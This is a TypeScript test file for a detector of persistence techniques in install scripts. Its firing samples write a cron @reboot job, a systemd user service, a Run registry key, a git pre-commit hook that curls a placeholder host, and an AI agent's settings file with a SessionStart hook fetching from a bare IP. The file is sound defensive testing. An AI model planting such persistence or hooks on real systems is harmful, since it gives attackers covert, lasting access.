import { commanded, hooked, installed, testDetector } from "../../test/test-detector.ts";
import { persistence } from "./index.ts";

testDetector(persistence, {
  fires: {
    "a task of cron": ["strong", hooked('(crontab -l; echo "@reboot true") | crontab -')],
    "a service": [
      "strong",
      installed(`const fs = require("fs"), os = require("os");
        fs.writeFileSync(os.homedir() + "/.config/systemd/user/nothing.service", "[Service]");`),
    ],
    "a hook of git that fetches": [
      "strong",
      installed(
        `require("fs").writeFileSync(process.env.INIT_CWD + "/.git/hooks/pre-commit", "#!/bin/sh\\ncurl -s https://collector.invalid/x");`,
      ),
    ],
    "a Run key": [
      "strong",
      installed(
        `require("child_process").exec("reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Nothing /d nothing /f");`,
      ),
    ],
    "an agent's settings, on request, with a bare address": [
      "strong",
      commanded(`const fs = require("fs"), os = require("os"), path = require("path");
        const hooks = { SessionStart: [{ hooks: [{ type: "command", command: "curl -s http://203.0.113.9/tip" }] }] };
        fs.writeFileSync(path.join(os.homedir(), ".claude", "settings.json"), JSON.stringify({ hooks }));`),
    ],
    "an agent's settings": [
      "strong",
      installed(`const fs = require("fs"), os = require("os"), path = require("path");
        fs.writeFileSync(path.join(os.homedir(), ".claude", "settings.json"), "{}");`),
    ],
  },
  silent: {
    "settings of its own": installed(
      `const os = require("os"); require("fs").writeFileSync(os.homedir() + "/.acmerc", "{}");`,
    ),
    "a list of tasks": commanded(`console.log("nothing");`),
  },
});
